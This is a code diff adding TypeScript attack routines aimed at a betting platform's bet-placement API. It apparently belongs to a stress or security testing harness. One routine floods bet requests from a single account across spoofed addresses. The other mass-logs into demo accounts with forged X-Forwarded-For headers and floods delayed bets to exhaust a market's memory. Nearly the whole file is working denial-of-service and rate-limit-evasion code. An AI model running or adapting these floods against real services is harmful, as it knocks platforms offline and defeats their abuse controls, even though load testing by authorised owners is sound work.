@@ -1,0 +1,48 @@
+import type { AttackReport, AttackTarget } from "./attack-target.ts";
+import { floodCalls, strangerAddress } from "./flood.ts";
+
+const CONNECTIONS = 64;
+const DEMO_ADDRESSES = 8;
+const DEMO_ACCOUNTS = 24;
+
+/** One account that places bets as fast as it can, from many addresses. */
+export function oneAccountsBets(target: AttackTarget, seconds: number): Promise<AttackReport> {
+  const { url, token, eventId, marketId, runnerId } = target;
+  return floodCalls(url, { connections: CONNECTIONS, seconds }, (count) => ({
+    method: "POST",
+    path: "/api/Bet/PlaceBetV2",
+    address: strangerAddress(8000 + (count % 50)),
+    headers: { authorization: `Bearer ${token}` },
+    body: betOf({ eventId, marketId, runnerId, rate: 2 + (count % 5) * 0.1, type: 1 + (count % 2) }),
+  }));
+}
+
+/** Demo accounts of eight addresses that fill the memory of delayed bets of a market in play. */
+export async function delayedBets(target: AttackTarget, seconds: number): Promise<AttackReport> {
+  const { url, delayedEventId: eventId, delayedMarketId: marketId, delayedRunnerId: runnerId } = target;
+  const tokens: string[] = [];
+  for (let index = 0; index < DEMO_ACCOUNTS; index += 1) {
+    const token = await demoToken(url, strangerAddress(8100 + (index % DEMO_ADDRESSES)));
+    if (token !== undefined) tokens.push(token);
+  }
+  return floodCalls(url, { connections: 1500, seconds }, (count) => ({
+    method: "POST",
+    path: "/api/Bet/PlaceBetV2",
+    address: strangerAddress(8100 + (count % DEMO_ADDRESSES)),
+    headers: { authorization: `Bearer ${tokens[count % tokens.length] ?? ""}` },
+    // Would match what rests on the other side, so it waits for the market's delay.
+    body: betOf({ eventId, marketId, runnerId, rate: 1.01, type: 1 }),
+  }));
+}
+
+async function demoToken(url: string, address: string): Promise<string | undefined> {
+  const response = await fetch(`${url}/api/Account/LoginAsDemoUser`, {
+    headers: { "x-forwarded-for": address },
+  });
+  const { result } = (await response.json()) as { result: { accessToken?: string } | null };
+  return result?.accessToken;
+}
+
+function betOf(terms: Readonly<Record<string, number>>): Record<string, unknown> {
+  return { placeTime: null, stake: 1, fancyValue: 0, ...terms };
+}
